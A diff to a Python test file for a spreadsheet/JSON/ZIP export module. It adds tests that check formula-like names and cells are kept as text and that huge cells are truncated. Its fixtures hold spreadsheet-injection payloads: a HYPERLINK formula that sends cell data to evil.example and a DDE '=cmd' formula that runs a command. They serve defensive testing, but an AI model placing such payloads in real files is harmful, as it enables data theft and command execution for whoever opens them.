@@ -211,7 +211,7 @@ def test_it_writes_a_summary_sheet_then_one_sheet_per_stored_table(made_run):
         (LONG + "_2", None, "failed"),
         ("after_broken", None, "skipped"),
     ]
-    assert table[3][-1] == "KeyError: 'no_such_column'"
+    assert table[3][exports.SUMMARY_HEADINGS.index("Error")] == "KeyError: 'no_such_column'"
     assert table[0][8] == "2 rows dropped as duplicates"
 
 
@@ -322,3 +322,148 @@ def test_it_writes_numbers_excel_cannot_keep_as_text(made_run):
         rows = list(load_workbook(handle)["site"].iter_rows(values_only=True))
 
     assert rows == [("big", "ratio"), (str(2**60), "inf"), (7, "nan"), (8, 0.25)]
+
+
+# --- hostile text: formulas and huge cells ---
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
+HUGE_CELL = "a" * 1_200_000  # beyond csv's default field limit (131,072) and Excel's cell limit (32,767)
+HOSTILE_CONFIG = """
+entities:
+  "=cmd|' /C calc'!A0":
+    type: csv
+    options: {filename: notes.csv, dtype: str, keep_default_na: false}
+    columns: ["id", "text", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
+"""
+
+
+def formula_cells(workbook) -> list[str]:
+    """Every cell of the workbook Excel would evaluate (a formula) or show as an error value."""
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type in ("f", "e")
+    ]
+
+
+def make_hostile_run(write_config, user, capture) -> TestRun:
+    """A real run (django-q2 sync mode) of an entity named like a formula, with a header like a formula
+    and a cell of 1.2 million characters; loaded with ``exports.for_export``."""
+    from configurations.importing import import_configuration
+
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    notes = f"id,text,{quoted}\n1,{HUGE_CELL},=1+1\n2,#N/A,-2\n"
+    version, _ = import_configuration(write_config(HOSTILE_CONFIG, notes__csv=notes), user=user)
+    with capture(execute=True):
+        run = start_run(version, RunOptions(), user)
+    run = exports.for_export().get(pk=run.pk)
+    assert run.status == Status.COMPLETED, run.error_message
+    return run
+
+
+@pytest.fixture
+def hostile_run(write_config, alice, django_capture_on_commit_callbacks):
+    return make_hostile_run(write_config, alice, django_capture_on_commit_callbacks)
+
+
+def test_it_writes_formula_like_names_headers_and_cells_as_text(made_run):
+    EntityResult.objects.filter(run=made_run, entity="site").update(
+        entity=FORMULA,
+        output=default_storage.save(
+            f"runs/{made_run.pk}/formula.csv",
+            ContentFile(('"' + FORMULA.replace('"', '""') + '",code\n#N/A,=2+2\n').encode()),
+        ),
+        columns=[FORMULA, "code"],
+        dtypes={FORMULA: "object", "code": "object"},
+        warnings=["=1+1 is a warning"],
+        error="@SUM(A1)",
+    )
+    run = exports.for_export().get(pk=made_run.pk)
+
+    with exports.export_xlsx(run) as handle:
+        workbook = load_workbook(handle)
+
+    assert formula_cells(workbook) == []
+    sheet = workbook[workbook.sheetnames[1]]
+    assert [(cell.value, cell.data_type) for cell in sheet[1]] == [(FORMULA, "s"), ("code", "s")]
+    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [("#N/A", "s"), ("=2+2", "s")]
+    assert sheet["B2"].quotePrefix  # Excel keeps it text when someone edits the cell
+    summary = list(workbook["Summary"].iter_rows())
+    row = next(row for row in summary if row[0].value == FORMULA)
+    assert row[0].data_type == row[1].data_type == "s"
+    assert row[1].value == sheet.title
+    assert row[8].value == "=1+1 is a warning"
+
+
+def test_it_cuts_cells_longer_than_excel_allows_with_a_marker_and_counts_them(made_run):
+    long_text = "é" * 40_000
+    EntityResult.objects.filter(run=made_run, entity="site").update(
+        output=default_storage.save(
+            f"runs/{made_run.pk}/long.csv",
+            ContentFile(f"note,other\n{long_text},{long_text}\nshort,\n".encode()),
+        ),
+        columns=["note", "other"],
+        dtypes={"note": "object", "other": "object"},
+    )
+    run = exports.for_export().get(pk=made_run.pk)
+
+    with exports.export_xlsx(run) as handle:
+        workbook = load_workbook(handle)
+
+    cell = workbook["site"]["A2"].value
+    assert len(cell) == exports.EXCEL_MAX_CELL_TEXT
+    assert cell.startswith("é" * 32_000)
+    assert cell.endswith("… [truncated: 40,000 characters]")
+    assert workbook["site"]["A3"].value == "short"
+    summary = list(workbook["Summary"].iter_rows(values_only=True))
+    headings = summary.index(exports.SUMMARY_HEADINGS)
+    column = exports.SUMMARY_HEADINGS.index("Cells truncated")
+    counts = {row[0]: row[column] for row in summary[headings + 1 :]}
+    assert counts == {
+        "site": 2,
+        "sample/type": None,
+        LONG + "_1": None,
+        LONG + "_2": None,
+        "after_broken": None,
+    }
+    assert any(
+        "32,767 characters" in str(row[1]) for row in summary[:headings] if row[0] == "Cells truncated"
+    )
+
+
+def test_it_exports_a_real_run_with_a_huge_cell_and_formula_like_names_in_every_format(hostile_run):
+    entity = "=cmd|' /C calc'!A0"
+    stored = hostile_run.entity_results.get(entity=entity)
+
+    manifest = json.loads(exports.export_json(hostile_run))
+    assert manifest["entities"][0]["name"] == entity
+
+    archive = unzip(exports.export_zip(hostile_run))
+    with stored.output.open("rb") as handle:
+        assert archive.read(manifest["entities"][0]["file"]) == handle.read()  # the CSV stays whole
+    assert HUGE_CELL in archive.read(manifest["entities"][0]["file"]).decode()
+
+    with exports.export_xlsx(hostile_run) as handle:
+        workbook = load_workbook(handle)
+    assert formula_cells(workbook) == []
+    rows = list(workbook.worksheets[1].iter_rows(values_only=True))
+    assert sorted(rows[0]) == sorted(["id", "text", FORMULA])
+    first, second = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
+    assert first["text"].endswith("… [truncated: 1,200,000 characters]")
+    assert (first[FORMULA], second["text"]) == ("=1+1", "#N/A")
+
+
+def test_it_makes_formula_like_and_forbidden_names_safe_unique_sheet_names():
+    names = exports.sheet_names(
+        [FORMULA, "a[1]:*?/\\", "a[1]_____", "=x" + "y" * 28 + "'z", "'" * 40], taken=["Summary"]
+    )
+
+    assert names[FORMULA] == '=HYPERLINK("http___evil.example'
+    assert names["a[1]:*?/\\"] == "a_1______"
+    assert names["a[1]_____"] == "a_1______~2"
+    assert not names["=x" + "y" * 28 + "'z"].endswith("'")  # Excel refuses a name ending in a quote
+    assert names["'" * 40] == "entity"
+    assert len({name.lower() for name in names.values()}) == len(names)
+    assert all(len(name) <= 31 for name in names.values())
